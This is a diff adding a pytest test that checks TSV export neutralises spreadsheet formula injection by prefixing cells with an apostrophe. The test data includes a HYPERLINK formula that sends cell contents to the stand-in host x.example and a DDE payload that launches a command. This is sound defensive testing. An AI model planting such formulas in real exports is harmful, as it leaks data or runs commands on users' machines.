@@ -294,3 +294,28 @@ def test_the_largest_shard_count_is_visible_to_verify(tmp_path, inbox):
     assert verify(out) == []
     with pytest.raises(Exception, match="at most 99999"):
         _run([inbox], out, 0, 100000)
+
+
+# --- item 12: TSV formula injection --------------------------------------------------------
+
+_FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+             "- قال المتحدث", "+1+1", "\tx", "\rx", "=1+1", "-"]
+
+
+@pytest.mark.parametrize("excel", [True, False])
+def test_tsv_cells_are_neutralised_for_excel(tmp_path, excel):
+    import csv
+
+    from mtjob.export import export_folder
+    from mtjob.testing.output_folder import sentence, write_article
+
+    out = tmp_path / "out"
+    write_article(out, "=cmd", [[sentence(f, f, score=-0.5)] for f in _FORMULAS])
+    export_folder(out, "tsv", excel=excel)
+    with open(out / "export" / "tsv" / "=cmd.tsv", encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f, delimiter="\t"))[1:]
+    assert len(rows) == len(_FORMULAS)
+    for row, formula in zip(rows, _FORMULAS):
+        expected = "'" + formula if excel else formula
+        assert (row[0], row[3], row[4]) == ("'=cmd" if excel else "=cmd", expected, expected)
+        assert row[5] == "-0.5"  # a number stays a number
